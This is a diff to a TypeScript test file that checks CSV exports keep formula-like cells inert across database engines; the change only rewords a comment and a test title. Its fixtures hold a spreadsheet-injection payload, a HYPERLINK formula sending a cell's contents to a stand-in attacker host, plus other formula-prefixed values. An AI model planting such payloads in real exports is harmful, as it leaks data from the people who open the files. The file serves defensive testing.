@@ -2,12 +2,12 @@ import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, engines, type TestApp } from './testApp.ts';
 
-/** Issue 15 point 2's ticket subject: papaparse's pattern stopped at the line break. */
+/** A ticket subject that stayed a live formula: papaparse's pattern stopped at the line break. */
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")&\n""';
 const CITY = '  +1+2\nMontréal';
 const STAFF_FIRST_NAME = '@SUM(1+1)\r\nx';
 
-describe.each(engines)('CSV exports keep formula-like cells inert (issue 15 point 2) on %s', (engine) => {
+describe.each(engines)('CSV exports keep formula-like cells inert on %s', (engine) => {
   let t: TestApp;
   let memberId: number;
   let staffId: number;
